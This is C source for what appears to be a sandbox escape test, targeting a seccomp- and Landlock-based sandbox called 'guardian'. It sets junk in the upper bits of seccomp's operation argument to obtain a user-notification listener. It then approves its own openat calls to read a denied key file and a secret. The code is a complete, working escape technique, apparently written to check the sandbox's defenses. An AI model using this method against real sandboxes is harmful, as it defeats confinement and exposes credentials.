/* Escape attempt: take guardian's notifications with a listener of one's own. The kernel
 * reads seccomp(2)'s operation as 32 bits, so SECCOMP_SET_MODE_FILTER with garbage in the
 * upper half of the register is still that operation, while a filter comparing the whole
 * register does not recognise it and lets SECCOMP_FILTER_FLAG_NEW_LISTENER through. The
 * newest filter's USER_NOTIF wins over guardian's (and over SECCOMP_RET_TRACE): a thread
 * of ours answers our own openat with CONTINUE, and the kernel opens whatever we named.
 * Tried with the operation's upper half set and with the plain operation (which must get
 * EBUSY); then the filter is loaded on the main thread only and a second thread answers.
 * Reads the denied T/ws/.keys/key.txt (inside the writable tree, so Landlock's envelope
 * lets it through) and the secret. Exit 1 when a listener was had or a token came out. */
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

static int listener = -1;

static void* answer(void* arg) {
  (void)arg;
  for (;;) {
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    memset(&req, 0, sizeof req);
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
      if (errno == EINTR) continue;
      return NULL;
    }
    memset(&resp, 0, sizeof resp);
    resp.id = req.id;
    resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
  }
}

static int try_read(const char* path) {
  int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
  if (fd < 0) {
    printf("open %s: %s\n", path, strerror(errno));
    return 0;
  }
  printf("opened %s: ", path);
  long n = dump(fd);
  close(fd);
  return n > 0;
}

int main(int argc, char** argv) {
  fixture(argc, argv);
  char key[2300];
  snprintf(key, sizeof key, "%s/ws/.keys/key.txt", T);
  /* Notify on openat only; everything else as before. */
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = {sizeof f / sizeof f[0], f};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) { perror("no_new_privs"); return 2; }
  /* The plain call must be refused (EBUSY), checked without loading anything: on a thread
   * that would be left stuck were it let through, so first the variants, from a fork. */
  int escaped = 0;
  const unsigned long ops[] = {SECCOMP_SET_MODE_FILTER | (1UL << 32),
                               SECCOMP_SET_MODE_FILTER | (0xffffffffUL << 32)};
  pthread_t th;
  int started = 0;
  for (unsigned i = 0; i < sizeof ops / sizeof ops[0] && listener < 0; ++i) {
    long fd = syscall(SYS_seccomp, ops[i], SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (fd >= 0) {
      printf("got a listener with operation %#lx (fd %ld)\n", ops[i], fd);
      listener = (int)fd;
      escaped = 1;
    } else {
      printf("seccomp(%#lx, NEW_LISTENER): %s\n", ops[i], strerror(errno));
    }
  }
  if (listener >= 0 && pthread_create(&th, NULL, answer, NULL) == 0) started = 1;
  if (listener < 0) {
    /* Filters apply to the calling thread only (no TSYNC): the answering thread runs free. */
    long fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (fd >= 0) {
      printf("got a listener with the plain operation (fd %ld)\n", fd);
      listener = (int)fd;
      escaped = 1;
      if (pthread_create(&th, NULL, answer, NULL) == 0) started = 1;
    } else {
      printf("seccomp(SET_MODE_FILTER, NEW_LISTENER): %s\n", strerror(errno));
    }
  }
  (void)started;
  if (try_read(key)) escaped = 1;
  if (try_read(SECRET)) escaped = 1;
  fflush(stdout);
  _exit(escaped);
}
